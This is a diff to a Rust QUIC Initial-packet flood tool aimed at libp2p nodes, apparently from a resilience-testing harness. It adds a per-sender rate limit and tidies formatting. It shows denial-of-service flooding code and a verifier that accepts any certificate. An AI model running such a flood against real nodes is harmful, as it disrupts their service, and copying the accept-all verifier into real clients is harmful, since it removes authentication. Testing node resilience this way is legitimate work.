@@ -7,7 +7,7 @@
 
 use std::net::SocketAddr;
 use std::sync::Arc;
-use std::time::Instant;
+use std::time::{Duration, Instant};
 
 use anyhow::Context;
 use quinn_proto::crypto::rustls::QuicClientConfig;
@@ -23,11 +23,16 @@ use super::wire::{Counters, source_ip};
 
 /// Tasks sending Initials, each from its own source address.
 const SENDERS: u64 = 2;
+/// Initials each sender sends per second at most: 5,000 a second in all, far below what one
+/// core can build, so that the flood is the same whatever the attacker's build and a node
+/// that keeps state per Initial (rust-libp2p kept about 17 KiB each in a trial run) cannot
+/// take the whole shared machine's memory in one run.
+const RATE: u32 = 2500;
 /// Initials built by one quinn-proto endpoint before a fresh one replaces it (it keeps a
 /// little state per connection we abandon).
 const PER_ENDPOINT: u32 = 1000;
 
-/// Sends Initial packets flat out from [`SENDERS`] sockets until dropped.
+/// Sends Initial packets from [`SENDERS`] sockets, [`RATE`] a second each, until dropped.
 pub async fn initial_flood(target: Target, counters: Arc<Counters>) {
     let mut tasks = JoinSet::new();
     for sender in 0..SENDERS {
@@ -45,9 +50,15 @@ async fn send_initials(sender: u64, node: SocketAddr, counters: &Counters) -> an
     let socket = UdpSocket::bind((source_ip(sender), 0)).await?;
     let config = client_config()?;
     let mut buffer = Vec::with_capacity(1500);
+    let start = Instant::now();
+    let mut sent: u64 = 0;
     loop {
         let mut endpoint = Endpoint::new(Arc::new(EndpointConfig::default()), None, false, None);
         for _ in 0..PER_ENDPOINT {
+            // Keep to the rate: wait until this packet's time has come.
+            let due = start + Duration::from_secs_f64(sent as f64 / f64::from(RATE));
+            tokio::time::sleep_until(due.into()).await;
+            sent += 1;
             let now = Instant::now();
             let (_, mut connection) = endpoint.connect(now, config.clone(), node, "libp2p")?;
             buffer.clear();
@@ -72,7 +83,9 @@ fn client_config() -> anyhow::Result<ClientConfig> {
         .with_custom_certificate_verifier(Arc::new(AnyCertificate(provider)))
         .with_no_client_auth();
     tls.alpn_protocols = vec![b"libp2p".to_vec()];
-    Ok(ClientConfig::new(Arc::new(QuicClientConfig::try_from(tls)?)))
+    Ok(ClientConfig::new(Arc::new(QuicClientConfig::try_from(
+        tls,
+    )?)))
 }
 
 /// Accepts every server certificate: the flood stops at the first packet.
@@ -110,8 +123,6 @@ impl ServerCertVerifier for AnyCertificate {
     }
 
     fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
-        self.0
-            .signature_verification_algorithms
-            .supported_schemes()
+        self.0.signature_verification_algorithms.supported_schemes()
     }
 }
